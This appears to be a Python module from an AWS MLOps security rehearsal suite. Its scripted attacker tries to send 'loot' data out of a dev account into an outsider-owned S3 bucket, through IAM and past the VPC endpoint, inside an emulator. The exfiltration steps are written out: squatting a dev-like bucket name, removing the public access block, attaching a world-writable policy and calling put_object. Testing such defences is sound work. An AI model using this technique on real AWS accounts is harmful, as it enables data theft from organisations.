"""Attempts to carry data to an account of somebody else, by IAM and out of the VPC."""

import json
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from typing import Final

from botocore.exceptions import ClientError

from mlops_commons.contract import ParameterName, Persona
from mlops_rehearsal.acts.attacker import LOOT, Attacker
from mlops_rehearsal.acts.buckets_of_others import create_bucket
from mlops_rehearsal.acts.deployed_world import parameters_of
from mlops_rehearsal.emulator.policy_files import OUTSIDER as FOREIGN

OWN_SESSION: Final = "arn:aws:sts::{account}:assumed-role/{role}/attack"
FOREIGN_SESSION: Final = f"arn:aws:sts::{FOREIGN}:assumed-role/mine/attack"
PAST_THE_ENDPOINT: Final = "no VPC endpoint policy allows the s3:PutObject action"


def open_to_all(**what: str) -> str:
    """A policy that lets everybody do something."""
    allowed = {"Effect": "Allow", "Principal": "*", **what}
    return json.dumps({"Version": "2012-10-17", "Statement": [allowed]})


@contextmanager
def _foreign_bucket(who: Attacker) -> Iterator[str]:
    """A bucket of the attacker's own account lets everybody write; its name is one of dev's.

    Names of buckets are anybody's to take, so the name is no protection.
    """
    dev = who.project.dev
    s3 = who.world.root("s3", FOREIGN, dev.region)
    bucket = f"mlops-p-loot-artifacts-{dev.account}"
    create_bucket(s3, bucket, dev.region)
    try:
        policy = open_to_all(Action="s3:PutObject", Resource=f"arn:aws:s3:::{bucket}/*")
        s3.delete_public_access_block(Bucket=bucket)
        s3.put_bucket_policy(Bucket=bucket, Policy=policy)
        yield bucket
    finally:
        with suppress(ClientError):
            s3.delete_object(Bucket=bucket, Key="data/loot")
        s3.delete_bucket(Bucket=bucket)


def send_out(who: Attacker) -> object:
    with _foreign_bucket(who) as bucket:
        return who.client("s3").put_object(Bucket=bucket, Key="data/loot", Body=LOOT)


def _through_the_endpoint(who: Attacker, principal: str, bucket: str) -> None:
    """From a private subnet of dev; the way to S3 leads through the endpoint, NAT or not."""
    project = who.project
    found = parameters_of(who.world, project.deployment, project.dev)
    who.world.emulator.ask_network(
        (project.dev.account, project.dev.region),
        found[ParameterName.PRIVATE_SUBNET_IDS].split(",")[0],
        [found[ParameterName.SECURITY_GROUP_ID]],
        {
            "service": "s3",
            "principal": principal,
            "action": "s3:PutObject",
            "resource": f"arn:aws:s3:::{bucket}/data/loot",
        },
    )


def send_from_inside(principal: str, who: Attacker) -> None:
    with _foreign_bucket(who) as bucket:
        _through_the_endpoint(who, _principal(principal, who), bucket)


def keep_inside(who: Attacker) -> None:
    bucket = who.bucket(f"{who.project.project_id}-artifacts")
    _through_the_endpoint(who, _principal(OWN_SESSION, who), bucket)


def _principal(session: str, who: Attacker) -> str:
    return session.format(
        account=who.project.dev.account,
        role=who.role(Persona.DATA_SCIENTIST).rpartition("/")[2],
    )
